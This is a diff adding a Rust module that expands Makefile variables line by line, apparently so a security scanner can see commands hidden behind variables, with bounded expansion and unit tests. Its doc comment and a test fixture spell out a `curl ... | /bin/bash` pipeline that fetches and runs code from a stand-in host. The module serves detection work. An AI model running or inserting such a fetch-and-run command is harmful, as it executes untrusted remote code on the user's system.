@@ -1,0 +1,150 @@
+//! A Makefile read with its variables expanded: `$(FETCH) $(URL) | $(RUNNER)`
+//! is `curl -fsSL https://... | /bin/bash` once `FETCH`, `URL` and `RUNNER`
+//! are put in, and the rules read commands as written out. Line for line,
+//! so a finding keeps its line.
+
+use std::collections::HashMap;
+
+/// Longest line an expansion may make; a longer one stays as written.
+const MAX_LINE: usize = 4096;
+/// Most variables read from one file.
+const MAX_VARIABLES: usize = 1024;
+/// Rounds of expansion (a variable made of variables).
+const ROUNDS: usize = 4;
+
+/// True for a Makefile by its name (`Makefile`, `GNUmakefile`, `*.mk`).
+pub fn is_makefile(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    matches!(name, "Makefile" | "makefile" | "GNUmakefile") || name.ends_with(".mk")
+}
+
+/// The text with every `$(NAME)` and `${NAME}` of a variable it defines
+/// (`NAME = value`, `:=`, `::=`, `?=`; the last definition wins) replaced by
+/// its value, line for line; None when nothing changed.
+pub fn expand(text: &str) -> Option<String> {
+    let mut vars: HashMap<&str, &str> = HashMap::new();
+    for line in text.lines() {
+        if vars.len() >= MAX_VARIABLES {
+            break;
+        }
+        if let Some((name, value)) = definition(line) {
+            vars.insert(name, value);
+        }
+    }
+    if vars.is_empty() {
+        return None;
+    }
+    let mut changed = false;
+    let lines: Vec<String> = text
+        .lines()
+        .map(|line| {
+            let mut current = line.to_owned();
+            for _ in 0..ROUNDS {
+                if !current.contains("$(") && !current.contains("${") {
+                    break;
+                }
+                let next = substitute(&current, &vars);
+                if next == current || next.len() > MAX_LINE {
+                    break;
+                }
+                current = next;
+            }
+            changed |= current != line;
+            current
+        })
+        .collect();
+    changed.then(|| lines.join("\n"))
+}
+
+/// `NAME = value` (or `:=`, `::=`, `?=`, after an optional `export`), not a
+/// recipe line (a tab) nor a rule (`target: deps`).
+fn definition(line: &str) -> Option<(&str, &str)> {
+    if line.starts_with('\t') {
+        return None;
+    }
+    let line = line.trim_start();
+    let line = line.strip_prefix("export ").unwrap_or(line);
+    let eq = line.find('=')?;
+    let name = line[..eq]
+        .trim_end()
+        .trim_end_matches([':', '?'])
+        .trim_end();
+    let valid = !name.is_empty()
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'));
+    // `+=` appends: left alone rather than guessed.
+    (valid && !line[..eq].ends_with('+')).then(|| (name, line[eq + 1..].trim()))
+}
+
+/// One round: each reference to a known variable replaced by its value.
+fn substitute(line: &str, vars: &HashMap<&str, &str>) -> String {
+    let mut out = String::with_capacity(line.len());
+    let mut rest = line;
+    while let Some(at) = rest.find('$') {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        let close = match after.as_bytes().first() {
+            Some(b'(') => ')',
+            Some(b'{') => '}',
+            Some(b'$') => {
+                // `$$` is a literal dollar for the shell: kept whole.
+                out.push_str("$$");
+                rest = &after[1..];
+                continue;
+            }
+            _ => {
+                out.push('$');
+                rest = after;
+                continue;
+            }
+        };
+        match after
+            .find(close)
+            .and_then(|end| Some((end, vars.get(&after[1..end])?)))
+        {
+            Some((end, value)) => {
+                out.push_str(value);
+                rest = &after[end + 1..];
+            }
+            None => {
+                out.push('$');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn variables_are_put_in_line_for_line() {
+        let make = "SHELL := /bin/bash\nGET = curl -fsSL\nRUN = $(SHELL)\nHOST ?= x.example\n\nboot:\n\t@$(GET) https://${HOST}/b | $(RUN)\n\techo $$HOME $(UNKNOWN)\n";
+        let out = expand(make).unwrap_or_default();
+        assert_eq!(out.lines().count(), make.lines().count());
+        assert_eq!(
+            out.lines().nth(6),
+            Some("\t@curl -fsSL https://x.example/b | /bin/bash")
+        );
+        assert_eq!(out.lines().nth(7), Some("\techo $$HOME $(UNKNOWN)"));
+        assert_eq!(expand("all:\n\techo hi\n"), None);
+        assert!(
+            is_makefile("build/Makefile") && is_makefile("rules.mk") && !is_makefile("make.py")
+        );
+    }
+
+    #[test]
+    fn expansion_is_bounded() {
+        // A variable that doubles each round stops at the line limit.
+        let make = "A = $(B)$(B)\nB = $(C)$(C)\nC = $(D)$(D)\nD = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\nall:\n\techo $(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)$(A)\n";
+        let out = expand(make).unwrap_or_default();
+        assert!(out.lines().all(|l| l.len() <= MAX_LINE));
+        // A variable that names itself ends after the rounds.
+        let loop_ = "X = $(X)$(X)\nall:\n\techo $(X)\n";
+        assert!(expand(loop_).is_none_or(|o| o.len() < 100_000));
+    }
+}
